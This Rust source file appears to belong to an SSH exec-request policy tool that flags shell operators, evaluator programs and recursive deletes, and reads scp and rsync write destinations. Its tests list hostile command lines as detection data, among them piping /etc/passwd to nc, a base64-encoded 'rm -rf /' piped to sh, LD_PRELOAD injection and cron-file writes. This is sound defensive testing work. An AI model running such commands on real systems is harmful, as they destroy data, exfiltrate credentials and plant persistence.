//! What an SSH exec request asks the remote shell to run, as policy sees
//! it: the program as typed, its arguments, whether the line uses shell
//! features that make the first word meaningless (`ls; rm -rf /`,
//! `$(curl …)`, `echo … | base64 -d | sh`), and whether it deletes
//! recursively the way `rm` and `find` read their options.
//!
//! The remote side runs the line through the user's shell, so a line is
//! only "just a program with arguments" when it has no operator,
//! substitution, redirection, expansion or leading assignment outside
//! quotes, and its program is not itself a shell or an evaluator.
//! Everything else is flagged, and the default policies hold flagged
//! commands for a human. Which file the program names on the host is
//! [`super::resolve`]'s job.

use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ExecCommand {
    /// The line as sent.
    pub line: String,
    /// First word after shell-words splitting, as typed (`git-upload-pack`,
    /// `/usr/bin/git-upload-pack`, `./x`); empty if the line does not split.
    pub program: String,
    pub args: Vec<String>,
    /// The line uses shell features that defeat parsing.
    pub shell_features: bool,
    /// `rm` with a recursive option, or `find` deleting (`-delete`, or an
    /// `-exec`/`-execdir`/`-ok`/`-okdir` running a recursive `rm`).
    pub recursive_delete: bool,
}

impl ExecCommand {
    /// The program's last path component (`/bin/rm` → `rm`).
    pub fn name(&self) -> &str {
        base_name(&self.program)
    }
}

fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or_default()
}

/// Programs that run their arguments as code.
const EVALUATORS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "fish", "csh", "tcsh", "busybox", "eval", "exec", "env",
    "xargs", "python", "python3", "perl", "ruby", "node", "php", "awk", "sudo", "su", "nohup",
    "timeout", "nice", "setsid", "script", "command", "builtin", "time", "coproc",
];

pub fn parse(line: &str) -> ExecCommand {
    let words = shell_words::split(line);
    let (program, args, split_ok) = match words {
        Ok(w) if !w.is_empty() => (w[0].clone(), w[1..].to_vec(), true),
        _ => (String::new(), Vec::new(), false),
    };
    let name = base_name(&program);
    let shell_features = !split_ok
        || has_unquoted_operator(line)
        || EVALUATORS.contains(&name)
        || is_assignment(&program);
    let recursive_delete = deletes_recursively(name, &args);
    ExecCommand {
        line: line.to_string(),
        program,
        args,
        shell_features,
        recursive_delete,
    }
}

/// `NAME=value` before a command sets its environment (`LD_PRELOAD=… x`).
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        let mut chars = name.chars();
        chars
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Whether `name args…` deletes a tree, read as the tool reads it.
fn deletes_recursively(name: &str, args: &[String]) -> bool {
    match name {
        "rm" => rm_is_recursive(args),
        "find" => find_deletes(args),
        _ => false,
    }
}

/// GNU rm's getopt_long: options anywhere before `--` (argument
/// permutation), short options combined (`-vr`, `-rfv`), long options by
/// any unambiguous prefix (`--recur`, `--r`; no other rm option starts
/// with "r").
fn rm_is_recursive(args: &[String]) -> bool {
    for a in args {
        if a == "--" {
            return false;
        }
        if let Some(long) = a.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or_default();
            if !name.is_empty() && "recursive".starts_with(name) {
                return true;
            }
        } else if let Some(short) = a.strip_prefix('-') {
            if short.contains(['r', 'R']) {
                return true;
            }
        }
    }
    false
}

/// find's `-delete`, or an action running a recursive `rm` (the command
/// after `-exec` up to `;` or `+`).
fn find_deletes(args: &[String]) -> bool {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        match a.as_str() {
            "-delete" => return true,
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                let inner: Vec<String> = args[i + 1..]
                    .iter()
                    .take_while(|w| *w != ";" && *w != "+")
                    .cloned()
                    .collect();
                if let Some((program, rest)) = inner.split_first() {
                    if deletes_recursively(base_name(program), rest) {
                        return true;
                    }
                }
                i += inner.len() + 1;
            }
            _ => {}
        }
        i += 1;
    }
    false
}

/// Where a file-transfer server mode writes, named by its arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Destination {
    /// "scp-sink" or "rsync-receive".
    pub op: &'static str,
    /// The destination as given; None when other arguments could make
    /// the tool write elsewhere too (an option blastgate does not know).
    pub path: Option<String>,
}

/// rsync receiver options that change how, not where, files are written.
const RSYNC_SAFE_LONG: &[&str] = &[
    "--server",
    "--delete",
    "--delete-before",
    "--delete-during",
    "--delete-after",
    "--delete-delay",
    "--inplace",
    "--append",
    "--append-verify",
    "--partial",
    "--numeric-ids",
    "--safe-links",
    "--munge-links",
    "--fsync",
    "--ignore-existing",
    "--existing",
    "--size-only",
    "--checksum",
    "--force",
    "--delay-updates",
    "--no-implied-dirs",
    "--mkpath",
];

/// The legacy scp sink (`scp -t DEST`) and the rsync receiver
/// (`rsync --server … . DEST`) write where their last argument says, file
/// names coming from the client's stream.
pub fn destination(cmd: &ExecCommand) -> Option<Destination> {
    let options = || cmd.args.iter().take_while(|a| *a != "--");
    match cmd.name() {
        "scp" => {
            let sink = options().any(|a| {
                a.strip_prefix('-')
                    .is_some_and(|s| !s.starts_with('-') && s.contains('t'))
            });
            sink.then(|| Destination {
                op: "scp-sink",
                path: cmd.args.last().filter(|a| !a.starts_with('-')).cloned(),
            })
        }
        "rsync" => {
            let server = cmd.args.iter().any(|a| a == "--server");
            let sender = cmd.args.iter().any(|a| a == "--sender");
            // Options that write files of their own (--log-file, -T
            // --temp-dir, --backup-dir, …) or that blastgate does not know
            // make the destination unknown, on either side.
            let known = options().all(|a| match a.strip_prefix("--") {
                Some(_) => a == "--sender" || RSYNC_SAFE_LONG.contains(&a.as_str()),
                None => a
                    .strip_prefix('-')
                    .map(|flags| flags.split('e').next().unwrap_or_default())
                    .is_none_or(|flags| !flags.contains(['T', 'M'])),
            });
            match (server, sender, known) {
                (false, _, _) | (true, true, true) => None,
                (true, true, false) => Some(Destination {
                    op: "rsync-options",
                    path: None,
                }),
                (true, false, _) => Some(Destination {
                    op: "rsync-receive",
                    path: cmd.args.last().filter(|_| known).cloned(),
                }),
            }
        }
        _ => None,
    }
}

/// Operators, substitutions, redirections, expansions and globs outside
/// single quotes (inside double quotes `$` and backquotes still expand).
fn has_unquoted_operator(line: &str) -> bool {
    let mut single = false;
    let mut double = false;
    let mut escaped = false;
    for c in line.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '$' | '`' if !single => return true,
            ';' | '|' | '&' | '<' | '>' | '(' | ')' | '\n' | '\r' | '*' | '?' | '[' | '{' | '~'
            | '#'
                if !single && !double =>
            {
                return true
            }
            _ => {}
        }
    }
    single || double
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(line: &str) -> bool {
        parse(line).shell_features
    }

    #[test]
    fn plain_commands_are_program_and_arguments() {
        let c = parse("git-upload-pack '/srv/git/app.git'");
        assert_eq!(c.program, "git-upload-pack");
        assert_eq!(c.args, vec!["/srv/git/app.git"]);
        assert!(!c.shell_features);
        let c = parse("/usr/bin/rsync --server -vlogDtpre.iLsfxCIvu . /srv/app/");
        assert_eq!(c.program, "/usr/bin/rsync");
        assert_eq!(c.name(), "rsync");
        assert_eq!(c.args[0], "--server");
        assert!(!c.shell_features);
        assert!(!flagged("scp -t /tmp/x"));
        assert!(!flagged("rm -rf /srv/app"));
        assert_eq!(parse("rm -rf /srv/app").program, "rm");
        assert!(!flagged("echo 'a; b | c $(d)'"), "inside single quotes");
    }

    #[test]
    fn shell_features_are_flagged() {
        for line in [
            "ls; rm -rf /",
            "true && rm -rf /",
            "false || rm -rf /",
            "cat /etc/passwd | nc 10.0.0.1 9",
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "echo $(id)",
            "echo `id`",
            "echo \"$HOME\"",
            "rm -rf /srv/*",
            "cat > /etc/cron.d/x",
            "sleep 1 &",
            "(cd / && rm -rf x)",
            "eval rm -rf /",
            "sh -c 'rm -rf /'",
            "bash -c id",
            "/bin/sh -c id",
            "env X=1 rm -rf /",
            "sudo rm -rf /",
            "python3 -c 'import os'",
            "echo 'unbalanced",
            "ls ~root",
            "LD_PRELOAD=/tmp/x.so git-upload-pack /srv/app.git",
            "BASH_ENV=x git-upload-pack y",
            "command rm -rf /",
            "ls\nrm -rf /",
            "",
        ] {
            assert!(flagged(line), "{line:?} should be flagged");
        }
    }

    fn recursive(line: &str) -> bool {
        parse(line).recursive_delete
    }

    #[test]
    fn recursive_deletes_are_read_as_rm_and_find_read_them() {
        for line in [
            "rm -rf /srv/app",
            "rm -rfv /srv/app",
            "rm -vr /srv/app",
            "rm -r -f /srv/app",
            "rm -f -R /srv/app",
            "rm --recursive /srv/app",
            "rm --recur /srv/app",
            "rm --r /srv/app",
            "rm /srv/app -r",
            "/bin/rm -dR x",
            "find /srv -delete",
            "find /srv -name '*.log' -delete",
            "find /srv -exec rm -rf {} +",
            "find /srv -execdir /bin/rm --recursive {} ;",
            "find . -ok rm -vR {} ;",
        ] {
            assert!(recursive(line), "{line:?} deletes recursively");
        }
        for line in [
            "rm -f file",
            "rm -v file",
            "rm -- -r",
            "rm -f -- -rf",
            "rm --force x",
            "find . -name x",
            "find . -name -delete-me",
            "find . -exec rm -f {} ;",
            "find . -exec echo -r ; -print",
            "ls -r",
            "grep -r x .",
        ] {
            assert!(!recursive(line), "{line:?} does not");
        }
    }

    #[test]
    fn transfer_servers_write_where_their_arguments_say() {
        let dest = |line: &str| destination(&parse(line));
        assert_eq!(
            dest("scp -t -- /srv/x"),
            Some(Destination {
                op: "scp-sink",
                path: Some("/srv/x".into())
            })
        );
        assert_eq!(dest("scp -v -d -t ."), dest("scp -dt ."));
        assert_eq!(dest("scp -f /srv/x"), None, "a download");
        assert_eq!(
            dest("rsync --server -logDtpre.iLsfxCIvu --delete . /srv/app/").and_then(|d| d.path),
            Some("/srv/app/".into())
        );
        assert_eq!(
            dest("rsync --server --log-file=/home/d/.bashrc -e.Lsfx . x"),
            Some(Destination {
                op: "rsync-receive",
                path: None
            })
        );
        assert_eq!(
            dest("rsync --server --sender -logDtpre.iLsfxCIvu . /srv"),
            None
        );
        assert_eq!(dest("git-upload-pack /srv/x"), None);
    }
}
